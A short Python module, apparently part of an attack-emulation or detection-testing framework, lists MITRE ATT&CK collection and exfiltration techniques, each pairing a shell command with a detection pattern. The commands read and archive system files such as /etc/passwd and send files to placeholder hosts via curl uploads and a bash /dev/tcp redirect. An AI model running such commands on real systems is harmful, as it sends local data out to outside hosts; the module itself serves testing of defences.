"""Data, packed and carried away."""

from attacks.attack import Attack as A
from attacks.places import WEB
from node import OUTSIDE

ATTACKS = [
    A("T1005", "what is worth taking", "cat /etc/passwd /etc/hostname >/tmp/loot1", ("exec", r"/cat$")),
    A("T1074.001", "loot is laid together", "mkdir -p /tmp/loot && cp /etc/group /tmp/loot/", ("exec", r"/cp$")),
    A("T1560.001", "loot is packed", "tar czf /tmp/loot.tgz /etc/apt 2>/dev/null", ("exec", r"/tar$")),
    A(
        "T1041",
        "loot leaves over the way of the orders",
        f"curl -s -m 2 --data-binary @/etc/group {WEB}/up",
        ("exec", r"/curl$"),
    ),
    A(
        "T1048.003",
        "loot leaves in clear over another way",
        f"bash -c 'cat /etc/group >/dev/tcp/{OUTSIDE}/21'",
        ("connect", r":21$"),
    ),
    A(
        "T1567",
        "loot leaves to a service of the web",
        f"curl -s -m 2 -T /etc/hostname http://{OUTSIDE}:443/bucket/x",
        ("connect", r":443$"),
    ),
]
